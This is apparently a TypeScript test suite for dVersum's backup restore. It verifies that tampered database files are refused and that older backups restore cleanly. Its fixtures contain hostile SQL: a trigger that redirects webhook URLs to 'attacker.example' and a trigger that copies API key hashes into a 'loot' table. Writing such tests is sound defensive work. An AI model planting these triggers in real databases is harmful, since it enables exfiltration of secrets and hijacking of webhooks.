/**
 * backups.restore compares the candidate's whole schema with what this
 * version's migrations make, before anything writes to it: a file with a
 * trigger, a view, or a table, index or column of its own, or one missing, is
 * refused naming the first difference, and every file (the running database
 * and its -wal/-shm, the backup folder, the file given) stays byte for byte as
 * it was; the calls go on working and the next start is clean. A backup of an
 * older version (fewer migrations) still restores, and is migrated.
 */
import Database from 'better-sqlite3';
import { drizzle } from 'drizzle-orm/better-sqlite3';
import { readMigrationFiles, type MigrationMeta } from 'drizzle-orm/migrator';
import { createHash } from 'node:crypto';
import { readdirSync, readFileSync, statSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterEach, describe, expect, it } from 'vitest';
import { DEFAULT_MIGRATIONS_FOLDER } from '../../../main/core/store/database.js';
import { failure, tempDir } from '../../support/core.js';
import { openRestorable, type Restorable } from './restorable.js';

let h: Restorable | undefined;
const extra: { remove(): void }[] = [];
afterEach(async () => {
  await h?.close();
  h = undefined;
  for (const dir of extra.splice(0)) dir.remove();
});

/** Every file under `dir` with its sha256, by path. */
function hashes(dir: string): Record<string, string> {
  const out: Record<string, string> = {};
  for (const name of readdirSync(dir)) {
    const path = join(dir, name);
    if (statSync(path).isDirectory()) Object.assign(out, hashes(path));
    else out[path] = createHash('sha256').update(readFileSync(path)).digest('hex');
  }
  return out;
}

const ADVICE =
  'nothing was restored. Restore a backup dVersum made (Settings > General > Backups lists them).';

/** A backup of a database with a client and a webhook, copied elsewhere and changed by `sql`. */
async function tampered(sql: string): Promise<string> {
  const elsewhere = tempDir();
  extra.push(elsewhere);
  h = await openRestorable();
  await h.call('clients.create', { name: 'Ada Lovelace' });
  await h.call('webhooks.create', {
    name: 'n8n',
    url: 'https://hooks.example.com/a',
    events: ['client.created'],
  });
  const backup = await h.call('backups.create', {});
  const file = join(elsewhere.dir, 'from-the-shared-drive.db');
  writeFileSync(file, readFileSync(backup.path));
  const db = new Database(file);
  db.exec(sql);
  db.close();
  return file;
}

async function expectRefused(file: string, message: string): Promise<void> {
  const before = { ...hashes(h!.dataDir), [file]: hashes(join(file, '..'))[file] };
  const oldCore = h!.core;
  expect(await failure(h!.call('backups.restore', { path: file }))).toEqual({
    status: 422,
    code: 'validation_failed',
    message,
    details: undefined,
  });
  expect({ ...hashes(h!.dataDir), [file]: hashes(join(file, '..'))[file] }).toEqual(before);
  expect(h!.core).toBe(oldCore);
  // Every call still works, writes included.
  expect((await h!.call('clients.list', {})).items.map((c: { name: string }) => c.name)).toEqual([
    'Ada Lovelace',
  ]);
  await h!.call('clients.create', { name: 'Grace Hopper' });
  expect(await h!.call('dispatch.status', {})).toMatchObject({ paused: false });
  // And the next start is clean.
  await h!.restart();
  expect((await h!.call('clients.list', {})).items).toHaveLength(2);
}

describe('restore refuses a file whose schema is not what the migrations make', () => {
  it('a backup with deliveries and delivery_attempts dropped: missing table "deliveries"', async () => {
    const file = await tampered('DROP TABLE delivery_attempts; DROP TABLE deliveries;');
    await expectRefused(
      file,
      `${file} lacks table "deliveries", which this version of dVersum needs: ${ADVICE}`,
    );
  });

  it('a trigger that rewrites webhook URLs: trigger "evil"', async () => {
    const file = await tampered(
      "CREATE TRIGGER evil AFTER INSERT ON webhooks BEGIN UPDATE webhooks SET url = 'http://attacker.example/x' WHERE id = NEW.id; END;",
    );
    await expectRefused(
      file,
      `${file} has trigger "evil", which this version of dVersum does not make: ${ADVICE}`,
    );
  });

  it("a table of its own that a trigger fills with new keys' hashes: the trigger is named first", async () => {
    const file = await tampered(
      'CREATE TABLE loot (hash TEXT); CREATE TRIGGER steal AFTER INSERT ON api_keys BEGIN INSERT INTO loot VALUES (NEW.hash); END;',
    );
    await expectRefused(
      file,
      `${file} has trigger "steal", which this version of dVersum does not make: ${ADVICE}`,
    );
  });

  it('a table of its own: table "loot"', async () => {
    const file = await tampered('CREATE TABLE loot (hash TEXT);');
    await expectRefused(
      file,
      `${file} has table "loot", which this version of dVersum does not make: ${ADVICE}`,
    );
  });

  it('a view: view "keys_view"', async () => {
    const file = await tampered('CREATE VIEW keys_view AS SELECT hash FROM api_keys;');
    await expectRefused(
      file,
      `${file} has view "keys_view", which this version of dVersum does not make: ${ADVICE}`,
    );
  });

  it('a column of its own: column webhooks.extra', async () => {
    const file = await tampered('ALTER TABLE webhooks ADD COLUMN extra TEXT;');
    await expectRefused(
      file,
      `${file} has column webhooks.extra, which this version of dVersum does not make: ${ADVICE}`,
    );
  });

  it('an index of its own: index "x"', async () => {
    const file = await tampered('CREATE INDEX x ON clients (name);');
    await expectRefused(
      file,
      `${file} has index "x", which this version of dVersum does not make: ${ADVICE}`,
    );
  });

  it('an index of ours made another way: index "api_keys_hash_idx" (no longer unique)', async () => {
    const file = await tampered(
      'DROP INDEX api_keys_hash_idx; CREATE INDEX api_keys_hash_idx ON api_keys (hash);',
    );
    await expectRefused(
      file,
      `${file} has index "api_keys_hash_idx" unlike the one this version of dVersum makes: ${ADVICE}`,
    );
  });
});

describe("restore of an older version's backup", () => {
  it('a database with only the first migrations is accepted and migrated', async () => {
    const elsewhere = tempDir();
    extra.push(elsewhere);
    const file = join(elsewhere.dir, 'older.db');
    const sqlite = new Database(file);
    const migrations = readMigrationFiles({ migrationsFolder: DEFAULT_MIGRATIONS_FOLDER });
    const { dialect, session } = drizzle(sqlite) as unknown as {
      dialect: { migrate(m: MigrationMeta[], s: unknown, c: object): void };
      session: unknown;
    };
    dialect.migrate(migrations.slice(0, migrations.length - 1), session, {
      migrationsFolder: DEFAULT_MIGRATIONS_FOLDER,
    });
    sqlite
      .prepare(
        "INSERT INTO clients (id, name, created_at, updated_at) VALUES ('cli_old', 'Older Client', 1, 1)",
      )
      .run();
    sqlite.close();

    h = await openRestorable();
    await h.call('backups.restore', { path: file });
    const names = async () => (await h!.call('clients.list', {})).items.map((c: { name: string }) => c.name);
    expect(await names()).toEqual(['Older Client']);
    // The migration it lacked ran: the webhooks' `ordered` column is there.
    await h.call('webhooks.create', {
      name: 'n8n',
      url: 'https://hooks.example.com/a',
      events: ['client.created'],
      ordered: true,
    });
    await h.restart();
    expect(await names()).toEqual(['Older Client']);
  });
});
